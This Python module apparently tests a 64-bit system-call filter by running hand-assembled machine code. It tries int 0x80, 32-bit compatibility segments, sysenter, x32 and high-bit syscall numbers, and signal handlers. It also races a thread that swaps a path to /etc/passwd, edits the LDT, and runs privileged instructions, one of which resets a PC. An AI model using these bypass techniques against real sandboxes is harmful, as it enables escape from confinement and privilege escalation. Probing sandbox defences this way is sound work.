"""Attacks by machine code: other ways into the kernel than the one that a filter for 64 bits sees."""

import ctypes
import os
import struct
import sys
import threading

import raw

X32_BIT = 0x40000000
RETURN = b"\xc3"


def _int80(number, first=0, second=0):
    """mov eax, number; mov ebx, first; mov ecx, second; int 0x80 — with rbx kept, as C wants it."""
    return (
        b"\x53"
        + b"\xb8"
        + struct.pack("<I", number)
        + b"\xbb"
        + struct.pack("<I", first)
        + b"\xb9"
        + struct.pack("<I", second)
        + b"\xcd\x80"
        + b"\x5b"
        + RETURN
    )


def _report(name, code):
    raw.say(f"try {name}")
    got = code()
    raw.say(f"got {name} {raw.answer(got)}")
    return got


def int80(number):
    """A system call of i386, from 64-bit code."""
    return _report("int80", raw.Code(_int80(number)))


def int80_from_a_thread(number):
    code = raw.Code(_int80(number))
    thread = threading.Thread(target=_report, args=("int80", code))
    thread.start()
    thread.join()
    return "went on"


def int80_from_a_child(number):
    code = raw.child(lambda: _report("int80", raw.Code(_int80(number))) and 0)
    raw.say(f"the parent goes on after {code}")
    return code


def compat_segment(entry):
    """32-bit code proper: a far jump to the compatibility segment, and there `int 0x80`, `sysenter` or `syscall`."""
    instruction = {"int80": b"\xcd\x80", "sysenter": b"\x0f\x34", "syscall": b"\x0f\x05"}[entry]
    raw.say(f"try {entry} in 32 bits")
    code = raw.Code(b"\x90" * 64, low=True)
    base = code.address
    stack = raw.Code(b"\0" * 64, low=True).address + 4096
    # 0: push rbx; mov rbx, rsp; mov rsp, stack; push 0x23; push base+64; retfq
    head = (
        b"\x53\x48\x89\xe3"
        + b"\x48\xbc"
        + struct.pack("<Q", stack)
        + b"\x6a\x23"
        + b"\x68"
        + struct.pack("<i", base + 64)
    )
    head += b"\x48\xcb"
    # 64: mov eax, 20 (getpid); mov ebp, esp; entry; push 0x33; push base+128; retf
    body = (
        b"\xb8\x14\0\0\0" + b"\x89\xe5" + instruction + b"\x6a\x33" + b"\x68" + struct.pack("<i", base + 128) + b"\xcb"
    )
    # 128: mov rsp, rbx; pop rbx; ret
    tail = b"\x48\x89\xdc\x5b\xc3"
    whole = head.ljust(64, b"\x90") + body.ljust(64, b"\x90") + tail
    ctypes.memmove(base, whole, len(whole))
    got = code()
    raw.say(f"got {entry} in 32 bits {got}")
    return got


def x32(call):
    """The same call by its x32 number."""
    number = raw.number_of(call) | X32_BIT
    raw.say("try x32")
    got = raw.answer(raw.syscall(number, 0, 0, 0))
    raw.say(f"got x32 {got}")
    return got


def x32_own_numbers(number):
    """One of the numbers that only x32 has."""
    raw.say("try x32")
    got = raw.answer(raw.syscall(number | X32_BIT, 0, 0, 0))
    raw.say(f"got x32 {got}")
    return got


def _syscall_instruction(number):
    """mov rax, number; syscall; ret"""
    return b"\x48\xb8" + struct.pack("<Q", number) + b"\x0f\x05" + RETURN


def bare_instruction(call, high_bits=0):
    """`syscall` in own memory, not in libc's; with bits above 32 in the number, which the kernel does not look at."""
    code = raw.Code(_syscall_instruction(raw.number_of(call) | high_bits << 32))
    raw.say(f"try {call}")
    got = raw.answer(code(0, 0, 0))
    raw.say(f"got {call} {got}")
    return got


def bare_instructions(calls):
    return {call: bare_instruction(call, high_bits) for call, high_bits in calls}


def by_signal_handler(call):
    """From inside a signal handler, on another stack."""
    import signal

    got = []
    signal.signal(signal.SIGUSR1, lambda *_: got.append(raw.attempt(call, 0, 0, 0)))
    os.kill(os.getpid(), signal.SIGUSR1)
    return got


def racing_arguments(rounds):
    """While calls with a pointer are refused, a thread rewrites what it points to: from harmless to wanted and back."""
    path = raw.buffer(64)
    stop = threading.Event()

    def rewrite():
        while not stop.is_set():
            path.value = b"/tmp/harmless"
            path.value = b"/etc/passwd"

    sys.setswitchinterval(0.0002)  # a race more often, and each round waits 25 times less for the other thread
    thread = threading.Thread(target=rewrite)
    thread.start()
    try:
        answers = {}
        for call, arguments in (
            ("chroot", (path,)),
            ("mknodat", (-100, path, 0o20666, 0x103)),
            ("setxattr", (path, b"user.x", b"y", 1, 0)),
            ("connect", (1, path, 16)),
        ):
            answers[call] = sorted({raw.answer(raw.syscall(call, *arguments)) for _ in range(rounds)})
    finally:
        stop.set()
        thread.join()
    answers["left"] = os.listdir("/tmp")
    return answers


def segments():
    """Segments and code of 16 and 32 bits made by hand."""
    entry = struct.pack("IIII", 0, 0, 0xFFFFF, 0x51)
    return {
        "modify_ldt": raw.attempt("modify_ldt", 1, entry, 16),
        "set_thread_area": raw.attempt("set_thread_area", entry),
        "get_thread_area": raw.attempt("get_thread_area", entry),
    }


def privileged_instructions(name):
    """Instructions that only the kernel may use: port output, halting, control registers, model-specific registers."""
    code = {
        "out": b"\xb0\xfe\xe6\x64\xc3",  # mov al, 0xfe; out 0x64, al: resets a PC
        "hlt": b"\xf4\xc3",
        "cli": b"\xfa\xc3",
        "mov cr3": b"\x0f\x20\xd8\xc3",
        "wrmsr": b"\x0f\x30\xc3",
        "lgdt": b"\x0f\x01\x10\xc3",
        "swapgs": b"\x0f\x01\xf8\xc3",
    }[name]
    return raw.child(lambda: raw.Code(code)())


def vsyscall_page():
    """The legacy page of the kernel: time() at a fixed address, emulated after the filter was asked."""
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(0xFFFFFFFFFF600400)
    return raw.child(lambda: call(None) > 0 and 7)


def anonymous_memory_runs():
    """It is known that memory can be executed: what code does there is what counts."""
    return raw.Code(b"\xb8\x2a\0\0\0\xc3")()
